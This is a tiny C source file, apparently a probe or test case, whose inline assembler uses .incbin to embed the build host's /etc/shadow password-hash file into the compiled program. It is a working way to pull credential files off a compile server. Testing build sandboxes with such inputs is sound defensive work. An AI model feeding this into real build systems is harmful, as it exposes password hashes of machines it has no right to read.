/* SPDX-License-Identifier: MIT */
/* put a file of the host into the program */
__asm__(".section .rodata\n.incbin \"/etc/shadow\"\n");
